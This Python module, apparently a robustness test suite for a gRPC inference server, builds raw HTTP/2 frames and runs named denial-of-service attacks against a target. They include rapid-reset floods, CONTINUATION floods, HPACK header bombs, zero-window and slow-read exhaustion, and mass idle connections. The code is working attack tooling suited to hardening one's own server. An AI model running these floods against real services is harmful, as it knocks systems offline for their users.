"""Attacks on a server of HTTP/2 by peers that keep to no rule of it, or only just to all of them.

Each goes on for some seconds, on new connections wherever old ones were closed.
"""

from __future__ import annotations

import contextlib
import socket
import time
from collections import Counter
from collections.abc import Callable, Iterator

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
INFER = "/inference.GRPCInferenceService/ModelInfer"
LIVE = "/inference.GRPCInferenceService/ServerLive"
SECONDS = 4.0
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _WINDOW, _CONTINUATION = 0, 1, 3, 4, 6, 8, 9
_END_HEADERS, _END_STREAM = 4, 1
_MOST_UNSENT = 1 << 20
_AT_ONCE, _PAUSE_S = 50, 0.05
"""So many connections are opened at a time, so many seconds apart."""
Answers = Counter[str]


def frame(kind: int, flags: int, number: int, payload: bytes = b"") -> bytes:
    head = len(payload).to_bytes(3, "big") + bytes((kind, flags)) + number.to_bytes(4, "big")
    return head + payload


def literal(name: bytes, value: bytes, first: int = 0) -> bytes:
    """Returns a header that is written out; with 0x40 as the first byte it enters the table."""
    return bytes((first,)) + _text(name) + _text(value)


def _text(text: bytes) -> bytes:
    size = len(text)
    if size < 127:
        return bytes((size,)) + text
    out, size = bytearray((127,)), size - 127
    while size >= 128:
        out.append(size % 128 + 128)
        size //= 128
    return bytes((*out, size)) + text


def call(path: str, *more: tuple[str, str]) -> bytes:
    """Returns the headers of a call."""
    pairs = (
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "a"),
        *more,
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    )
    return b"".join(literal(name.encode(), value.encode()) for name, value in pairs)


class Line:
    """A connection that is written to without waiting, and whose answers are thrown away."""

    def __init__(self, target: str, reads: bool = True) -> None:
        host, _, port = target.rpartition(":")
        self._sock = socket.create_connection((host, int(port)), 5)
        self._sock.setblocking(False)
        self._out = bytearray(PREFACE)
        self._reads = reads
        self.number = 1
        self.is_closed = False

    def send(self, *frames: bytes) -> None:
        for each in frames:
            self._out += each

    @property
    def is_full(self) -> bool:
        return len(self._out) >= _MOST_UNSENT

    def turn(self) -> None:
        """Writes what the socket takes, and reads what came."""
        try:
            with contextlib.suppress(BlockingIOError):
                if self._out:
                    del self._out[: self._sock.send(self._out)]
            while self._reads and not self.is_closed:
                self.is_closed = not self._sock.recv(1 << 16)
        except BlockingIOError:
            pass
        except OSError:
            self.is_closed = True

    def close(self) -> None:
        with contextlib.suppress(OSError):
            self._sock.close()


Say = Callable[[Line], None]


def nothing(line: Line) -> None:
    """Says nothing further."""


def flooded(target: str, greeting: bytes, say: Say, lines: int = 8) -> Answers:
    """Has something said on some connections again and again; closed ones are replaced."""
    answers: Answers = Counter()
    held: list[Line] = []
    end_s = time.monotonic() + SECONDS
    while time.monotonic() < end_s:
        for line in [each for each in held if each.is_closed]:
            held.remove(line)
            line.close()
            answers["closed"] += 1
        while len(held) < lines:
            try:
                line = Line(target)
            except OSError:
                answers["refused"] += 1
                break
            line.send(greeting)
            held.append(line)
            answers["tried"] += 1
        for line in held:
            if not line.is_full:
                say(line)
            line.turn()
    for line in held:
        line.close()
    answers["open"] += len(held)
    return answers


def held(
    target: str,
    first: Callable[[int], bytes],
    count: int,
    say: Say = nothing,
    *,
    reads: bool = True,
) -> Answers:
    """Says something once on many connections, and then something else now and then."""
    answers: Answers = Counter()
    lines: list[Line] = []
    end_s = time.monotonic() + SECONDS
    for at in range(count):
        try:
            line = Line(target, reads)
        except OSError:
            answers["refused"] += 1
            continue
        line.send(first(at))
        line.turn()
        lines.append(line)
        answers["tried"] += 1
        if at % _AT_ONCE == _AT_ONCE - 1:
            time.sleep(_PAUSE_S)  # so that they are accepted, and not dropped by those that follow
        if time.monotonic() > end_s:
            break
    end_s = max(end_s, time.monotonic() + 1.0)
    for _ in _every(0.1, end_s):
        for line in lines:
            if not line.is_closed:
                if not line.is_full:
                    say(line)
                line.turn()
    for line in lines:
        answers["closed" if line.is_closed else "open"] += 1
        line.close()
    return answers


def _every(period_s: float, end_s: float) -> Iterator[None]:
    while (now_s := time.monotonic()) < end_s:
        yield
        time.sleep(max(0.0, period_s - (time.monotonic() - now_s)))


_GREETING = frame(_SETTINGS, 0, 0)
_NO_WINDOW = frame(_SETTINGS, 0, 0, b"\0\4" + bytes(4))
_MESSAGE = bytes(5)
"""The prefix of an empty message."""


def rapid_resets(target: str, *more: tuple[str, str]) -> Answers:
    """Opens streams and resets them at once."""
    block = call(INFER, *more)

    def say(line: Line) -> None:
        for _ in range(64):
            number, line.number = line.number, line.number + 2
            line.send(
                frame(_HEADERS, _END_HEADERS, number, block),
                frame(_DATA, _END_STREAM, number, _MESSAGE),
                frame(_RESET, 0, number, b"\0\0\0\x08"),
            )

    return flooded(target, _GREETING, say)


def repeated(target: str, what: bytes, begins: bytes = b"") -> Answers:
    """Sends one frame again and again."""
    many = what * 256
    return flooded(target, _GREETING + begins, lambda line: line.send(many))


def header_bombs(target: str) -> Answers:
    """Fills the table of headers, and refers to it as often as a block may be long."""
    entry = literal(b"x", bytes(4_000), 0x40)
    bomb = call(LIVE) + entry + b"\xbe" * 12_000

    def say(line: Line) -> None:
        number, line.number = line.number, line.number + 2
        line.send(frame(_HEADERS, _END_HEADERS | _END_STREAM, number, bomb))

    return flooded(target, _GREETING, say)


def unfinished_headers(target: str, count: int) -> Answers:
    """Begins blocks of headers that never end, as long as they may be."""
    part = bytes(16_000)
    first = frame(_HEADERS, 0, 1, part) + frame(_CONTINUATION, 0, 1, part)
    return held(target, lambda _: _GREETING + first, count)


def long_headers_from_full_tables(target: str, count: int) -> Answers:
    """Fills the tables of headers with the smallest there are, and refers to these again and again.

    The blocks unpack to nearly the most, and come in as many parts as they may.
    """
    block = call(LIVE) + b"\xbe" * 800
    size = len(block) // 15
    *parts, end = (block[at : at + size] for at in range(0, len(block), size))
    full = call(LIVE) + literal(b"x", b"", 0x40) * 124

    def say(line: Line) -> None:
        number, line.number = line.number + 2, line.number + 2
        line.send(
            frame(_HEADERS, _END_STREAM, number, parts[0]),
            *(frame(_CONTINUATION, 0, number, part) for part in parts[1:]),
            frame(_CONTINUATION, _END_HEADERS, number, end),
        )

    first = _GREETING + frame(_HEADERS, _END_HEADERS | _END_STREAM, 1, full)
    return held(target, lambda _: first, count, say)


def unfinished_frames(target: str, count: int) -> Answers:
    """Begins frames that never end."""
    begun = frame(_HEADERS, 0, 1, bytes(16_384))[:-1]
    return held(target, lambda _: _GREETING + begun, count)


def no_windows(target: str, path: str, count: int, streams: int, *more: tuple[str, str]) -> Answers:
    """Takes no byte of any answer."""
    block = call(path, *more)
    calls = b"".join(
        frame(_HEADERS, _END_HEADERS, number, block) + frame(_DATA, _END_STREAM, number, _MESSAGE)
        for number in range(1, 2 * streams, 2)
    )
    return held(target, lambda _: _NO_WINDOW + calls, count)


def many_streams(target: str, count: int, *more: tuple[str, str]) -> Answers:
    """Opens as many streams as there may be, and sends nothing on them."""
    block = call(INFER, *more)
    opened = b"".join(frame(_HEADERS, _END_HEADERS, number, block) for number in range(1, 2_048, 2))
    return held(target, lambda _: _GREETING + opened, count)


def idle(target: str, count: int) -> Answers:
    """Holds connections on which nothing is called."""
    return held(target, lambda _: _GREETING, count)


def unread(target: str, path: str, *more: tuple[str, str]) -> Answers:
    """Calls again and again, and reads nothing of what is answered."""
    block = call(path, *more)

    def opened(at: int) -> bytes:
        windows = frame(_WINDOW, 0, 0, b"\x3f\xff\xff\xff")
        calls = b"".join(
            frame(_HEADERS, _END_HEADERS, number, block)
            + frame(_DATA, _END_STREAM, number, _MESSAGE)
            for number in range(1, 1_001, 2)
        )
        return _GREETING + windows + calls

    return held(target, opened, 40, reads=False)


def one_byte_windows(target: str) -> Answers:
    """Takes answers byte by byte."""
    small = frame(_SETTINGS, 0, 0, b"\0\4\0\0\0\1")
    block = call(LIVE)

    def say(line: Line) -> None:
        for _ in range(16):
            number, line.number = line.number, line.number + 2
            line.send(
                frame(_HEADERS, _END_HEADERS, number, block),
                frame(_DATA, _END_STREAM, number, _MESSAGE),
                *(frame(_WINDOW, 0, number, b"\0\0\0\1") for _ in range(8)),
            )

    return flooded(target, small, say)


def declared(target: str, *more: tuple[str, str]) -> Answers:
    """Announces messages of four gigabytes."""
    block = call(INFER, *more)

    def say(line: Line) -> None:
        for _ in range(16):
            number, line.number = line.number, line.number + 2
            line.send(
                frame(_HEADERS, _END_HEADERS, number, block),
                frame(_DATA, 0, number, b"\0\xff\xff\xff\xff" + bytes(64)),
            )

    return flooded(target, _GREETING, say)


Floods = dict[str, Callable[[str, tuple[str, str]], Answers]]
ATTACKS: Floods = {
    "rapid resets": lambda t, key: rapid_resets(t),
    "rapid resets by a client": rapid_resets,
    "continuations without end": lambda t, key: repeated(
        t, frame(_CONTINUATION, 0, 1), frame(_HEADERS, 0, 1, call(LIVE))
    ),
    "settings without end": lambda t, key: repeated(t, frame(_SETTINGS, 0, 0, b"\0\4\0\0\0\1")),
    "pings without end": lambda t, key: repeated(t, frame(_PING, 0, 0, bytes(8))),
    "empty data without end": lambda t, key: repeated(
        t, frame(_DATA, 0, 1), frame(_HEADERS, _END_HEADERS, 1, call(INFER, key))
    ),
    "windows without end": lambda t, key: repeated(t, frame(_WINDOW, 0, 0, b"\0\0\0\1")),
    "header bombs": lambda t, key: header_bombs(t),
    "long headers from full tables": lambda t, key: long_headers_from_full_tables(t, 3_000),
    "unfinished headers": lambda t, key: unfinished_headers(t, 2_000),
    "unfinished frames": lambda t, key: unfinished_frames(t, 3_000),
    "no windows": lambda t, key: no_windows(t, LIVE, 120, 1_000),
    "no windows of a client": lambda t, key: no_windows(
        t, "/inference.GRPCInferenceService/ServerMetadata", 120, 1_000, key
    ),
    "answers that nobody reads": lambda t, key: unread(t, LIVE),
    "windows of one byte": lambda t, key: one_byte_windows(t),
    "many streams": lambda t, key: many_streams(t, 120),
    "many streams of a client": lambda t, key: many_streams(t, 120, key),
    "many idle connections": lambda t, key: idle(t, 4_000),
    "four gigabytes announced": declared,
}
"""By their names: what is done to a server, with the header of a client's key."""
